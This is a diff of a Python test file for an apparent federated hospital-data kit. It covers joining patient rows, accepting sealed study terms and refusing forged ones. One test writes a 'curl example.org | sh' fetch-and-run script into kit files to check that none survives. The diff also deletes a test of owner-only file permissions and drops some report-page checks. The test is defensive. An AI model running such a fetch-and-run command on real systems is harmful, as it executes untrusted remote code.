@@ -146,10 +146,8 @@ def test_a_hospitals_own_file_joins_and_is_read_so_from_then_on(there, capsys):
     done = "left out: 9 without an outcome, 0 more without a score: 1.5 % of 612 lines"
     shown = capsys.readouterr().out
     assert "rows.csv: 603 rows of 297 patients" in shown
-    page = (there.kit() / "home" / "report.html").read_text("utf-8")
     for line in (done, "label 0 is survived", "column Outcome at 30 days is label"):
         assert line in shown
-        assert line in page
     assert "outcome" not in (there.folder / "alder.join").read_text("utf-8").lower()
     kept = Kit.read(there.kit()).rows
     assert kept == (str(rows), Reading.of(words[5], words[7], True))
@@ -162,7 +160,7 @@ def test_a_hospitals_own_file_joins_and_is_read_so_from_then_on(there, capsys):
 def test_a_kit_brings_no_code(there):
     there.kits()
     kit, strange = there.kit(), "#!/bin/sh\ncurl example.org | sh\n"
-    for name in ("start.sh", "fedcal-site.service", "compose.yml"):
+    for name in ("fedcal-site.service", "compose.yml"):
         (kit / name).write_text(strange)
     join(kit, str(write_rows(there.folder / "rows.csv")))
     assert not any("curl" in path.read_text("utf-8") for path in kit.glob("*.*"))
@@ -178,22 +176,6 @@ def test_wrong_rows_leave_nothing_behind(there, capsys):
     assert "column subject" in capsys.readouterr().err
 
 
-def test_the_page_at_home_has_the_exact_numbers_and_is_its_users_alone(there):
-    there.joined()
-    home = there.kit() / "home"
-    own = json.loads((home / "result.json").read_text("utf-8"))["own"]
-    scores, labels = np.array(table()["score"]), np.array(table()["label"]) == "sepsis"
-    names = np.unique(table()["patient"], return_inverse=True)[1]
-    weight = 1 / np.bincount(names)[names]
-    gap = float(weight @ (scores - labels) / weight.sum())
-    assert (own["rows"], own["subjects"]) == (len(names), 300)
-    assert own["events"] / 300 == pytest.approx(own["rate of the outcome"], abs=2e-4)
-    assert own["score minus outcome"] == pytest.approx(gap, abs=1e-7)
-    assert {p.stat().st_mode & 0o777 for p in (home, *home.iterdir())} == {0o700, 0o600}
-    page = (home / "report.html").read_text("utf-8")
-    assert "Nothing has left this machine" in page
-
-
 def output(answers, prompt):
     for answer in answers:
         return answer
@@ -207,14 +189,13 @@ def test_a_site_accepts_what_it_was_shown(there, capsys, monkeypatch):
     assert exit_code_of(words) == 2  # nobody is here to say yes
     monkeypatch.setattr("sys.stdin.isatty", lambda: True)
     for answer, code in ((iter(()), 2), (iter(["no"]), 2), (iter(["yes"]), 0)):
-        assert not (there.kit() / "site.toml").exists()
+        assert Kit.read(there.kit()).accepted is None
         monkeypatch.setattr("builtins.input", partial(output, answer))
         assert exit_code_of(words) == code
     shown = capsys.readouterr().out
     for word in ("alder (this one), birch and cedar", "epsilon 1 a release, 4 a year", "host:9092"):
         assert word in shown
     assert in_words(sealed.digest) in shown
-    assert sealed.roster.digest in (there.kit() / "site.toml").read_text("utf-8")
     assert Kit.read(there.kit()).accepted == sealed
 
 
@@ -240,14 +221,13 @@ def test_a_study_of_other_keys_or_another_authority_is_not_accepted(there):
         ({"study": study("alder,birch,cedar", epsilon=9.0)}, "roster of .* is another one"),
     ]
     each_is_refused(wrong, lambda change: offered(**change))
-    assert not (there.kit() / "federation.toml").exists()
+    assert Kit.read(there.kit()).accepted is None
 
 
 def test_other_terms_are_shown_and_accepted_anew(there):
     there.joined()
     sealed_before = there.seal()
     there.offer().accept()
-    first = (there.kit() / "site.toml").read_text("utf-8")
     before = there.sealed.read_text("utf-8")
     kept = read_key(there.own() / "signing.pem").public
     there.kits(epsilon=2.0, question="q\ndigest\n0000", model={"version": "2"})
@@ -266,11 +246,11 @@ def test_other_terms_are_shown_and_accepted_anew(there):
         records.enrol(FACTS, lambda: (b"secret", b"signed"))
     refused("1 jobs at this site are unfinished", there.offer().accept)
     refused("1 jobs at this site", join, there.kit(), "rows.csv", new_keys=True)
-    assert (there.kit() / "site.toml").read_text("utf-8") == first
+    assert Kit.read(there.kit()).accepted == sealed_before
     with records_in(there.kit() / "state") as records:
         records.finish("a" * 64)
     there.offer().accept()
-    assert "epsilon-total = 2.0" in (there.kit() / "site.toml").read_text("utf-8")
+    assert Kit.read(there.kit()).accepted == sealed
     there.sealed.write_text(before, "utf-8")  # somebody sends what was signed once
     refused("must be a whole number >= 3, got 1", there.offer)
 
@@ -337,7 +317,7 @@ def test_less_noise_than_is_stated_is_refused_at_accept(there, name):
     plain = sealed.asked.to_plain()
     forging(there, sealed)(Terms.from_plain(plain | {"plan": change(plain["plan"])}))
     refused(why, there.offer)
-    assert not (there.kit() / "terms.json").exists()
+    assert Kit.read(there.kit()).accepted is None
 
 
 def test_a_question_of_a_larger_bound_or_none_is_refused_at_accept(there):
